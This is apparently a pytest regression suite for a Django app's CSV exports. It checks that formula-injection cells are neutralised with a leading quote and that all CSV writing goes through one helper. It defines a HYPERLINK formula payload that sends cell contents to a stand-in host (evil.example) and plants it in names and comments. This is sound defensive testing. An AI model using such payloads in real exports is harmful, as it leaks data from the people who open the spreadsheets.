"""Formula injection: no cell of any export is read as a formula by a spreadsheet.

The audit trail's CSV wrote names and comments verbatim, so a share-link holder could plant
`=HYPERLINK(...)` in the admin's spreadsheet (issue 11). Every export goes through
`inmail_studio.csv_export`, which prefixes a cell starting with `=`, `+`, `-`, `@`, tab or
carriage return with a single quote (OWASP's advice).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from inmail_studio.accounts.models import User, Workspace
from inmail_studio.ads.models import Ad
from inmail_studio.csv_export import FORMULA_PREFIXES, neutralise
from inmail_studio.review import services, workflow
from inmail_studio.review.models import Action
from tests.conftest import client_for, join, make_user

ROOT = Path(__file__).resolve().parent.parent.parent / "inmail_studio"
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def _rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def _plant(prefix: str, workspace: Workspace, ad: Ad, author: User) -> str:
    """Put `prefix + PAYLOAD` in every user-controlled field that reaches the audit export."""
    planted = prefix + PAYLOAD
    Workspace.objects.filter(pk=workspace.pk).update(name=planted)
    Ad.objects.filter(pk=ad.pk).update(name=planted)
    ad.refresh_from_db()
    member = join(
        make_user(f"{prefix.strip() or 'x'}mallory".replace("\t", "t").replace("\r", "r")),
        workspace,
        "author",
    )
    services.comment_add(ad_id=ad.pk, author=member, body=planted)
    workflow.record(
        ad,
        action=Action.STAKEHOLDER_APPROVED,
        actor=None,
        stakeholder_name=planted,
        revision=ad.current_revision,
        comment=planted,
    )
    return planted


@pytest.fixture
def staff(workspace: Workspace) -> User:
    # Staff for Django admin's export, and the workspace's admin for the product's own.
    return join(make_user("root", is_staff=True, is_superuser=True), workspace, "admin")


EXPORTS = {
    "audit trail": "/admin/review/auditevent/export/",
    "workspace audit trail": "/workspace/audit/export/",
}
# Cells holding exactly the planted text: the admin's export has workspace, stakeholder and comment
# columns; the workspace's own has no workspace column and names the stakeholder with their link.
WHOLE_CELLS = {"audit trail": 3, "workspace audit trail": 1}


@pytest.mark.parametrize("prefix", (*FORMULA_PREFIXES, " ="))
@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_no_cell_of_an_export_starts_a_formula(
    export: str, prefix: str, workspace: Workspace, ad: Ad, author: User, staff: User
) -> None:
    planted = _plant(prefix, workspace, ad, author)
    rows = _rows(client_for(staff).get(EXPORTS[export]))
    cells = [cell for row in rows for cell in row]
    dangerous = [
        c for c in cells if c.startswith(FORMULA_PREFIXES) or c.lstrip(" ").startswith(("=", "+", "-", "@"))
    ]
    assert dangerous == []
    # The planted text is still there, whole, behind the quote that makes it text.
    assert cells.count("'" + planted) >= WHOLE_CELLS[export]  # and the comment's own row
    assert any(c.endswith(" " + planted) for c in cells)  # the ad column: "<id> <name>"


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_neutralise_quotes_every_formula_prefix_and_leaves_other_text_alone(prefix: str) -> None:
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"
    assert neutralise("Maria " + prefix) == "Maria " + prefix
    assert neutralise(None) == ""
    assert neutralise(42) == "42"


def test_every_csv_in_the_code_is_written_by_the_one_helper() -> None:
    """A new export that writes CSV itself would skip the neutralising; only csv_export may."""
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if path.name != "csv_export.py"
        and re.search(r"^\s*(import csv\b|from csv import)|text/csv", path.read_text(), re.MULTILINE)
    ]
    assert offenders == []


def test_the_exports_listed_here_are_every_csv_url(staff: User) -> None:
    """Every URL answering with CSV is in EXPORTS (so the test above covers it)."""
    from django.urls import URLPattern, URLResolver, get_resolver

    def walk(resolver: URLResolver, prefix: str) -> list[str]:
        found: list[str] = []
        for entry in resolver.url_patterns:
            if isinstance(entry, URLResolver):
                found += walk(entry, prefix + str(entry.pattern))
            elif isinstance(entry, URLPattern) and "export" in str(entry.pattern):
                found.append(prefix + str(entry.pattern))
        return found

    exports = {"/" + route.replace("^", "").replace("$", "") for route in walk(get_resolver(), "")}
    assert exports == set(EXPORTS.values())
    for url in EXPORTS.values():
        assert Client().get(url).status_code == 302  # staff only
